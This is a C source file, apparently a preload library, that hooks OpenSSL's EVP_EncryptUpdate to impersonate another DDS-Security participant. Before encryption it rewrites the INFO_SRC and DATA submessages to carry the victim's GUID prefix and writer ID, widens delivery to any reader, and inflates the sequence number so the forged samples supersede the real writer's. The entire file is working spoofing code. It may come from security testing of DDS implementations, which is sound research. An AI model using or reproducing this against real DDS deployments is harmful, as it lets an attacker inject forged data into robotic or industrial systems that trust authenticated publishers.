/* An attacker that passes for the writer of another participant: in each message that it seals (DDS-Security 1.1,
 * 9.5.3.3.4: the sealed body begins with an INFO_SRC), it puts the other's prefix and writer in place of its own, and a
 * sequence number that is newer than the other's. The bytes of RTPS are the same for both vendors, and both seal them
 * with EVP_EncryptUpdate, in place of which this stands.
 */
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

enum { PREFIX = 12, INFO_SRC = 0x0c, DATA = 0x15 };

typedef struct evp_cipher_ctx_st EVP_CIPHER_CTX;

static unsigned char forgers_guid[16], owners_guid[16];
static int forging; /* once the owner has been heard */

/* `body`: all submessages of a message, or one of them. */
static void pass_for_the_owner(unsigned char *body, size_t length)
{
    size_t size = 1;
    for (size_t i = 0; i + 24 <= length && size > 0; i += 4 + size) {
        unsigned char *it = body + i;
        size = it[1] & 1 ? it[2] | it[3] << 8 : it[2] << 8 | it[3];
        if (it[0] == INFO_SRC && memcmp(it + 12, forgers_guid, PREFIX) == 0)
            memcpy(it + 12, owners_guid, PREFIX);
        if (it[0] == DATA && memcmp(it + 12, forgers_guid + PREFIX, 4) == 0) {
            memset(it + 8, 0, 4); /* to any reader */
            memcpy(it + 12, owners_guid + PREFIX, 4);
            it[it[1] & 1 ? 22 : 21] += 1; /* newer by 65,536 */
        }
    }
}

#ifdef __cplusplus
extern "C"
#endif
int EVP_EncryptUpdate(EVP_CIPHER_CTX *context, unsigned char *out, int *written, const unsigned char *in, int length)
{
    static int (*real)(EVP_CIPHER_CTX *, unsigned char *, int *, const unsigned char *, int);
    if (real == NULL)
        *(void **)&real = dlsym(RTLD_NEXT, "EVP_EncryptUpdate");
    if (!forging || in == NULL || length <= 0)
        return real(context, out, written, in, length);
    unsigned char *plain = (unsigned char *)malloc((size_t)length);
    memcpy(plain, in, (size_t)length);
    pass_for_the_owner(plain, (size_t)length);
    int result = real(context, out, written, plain, length);
    free(plain);
    return result;
}
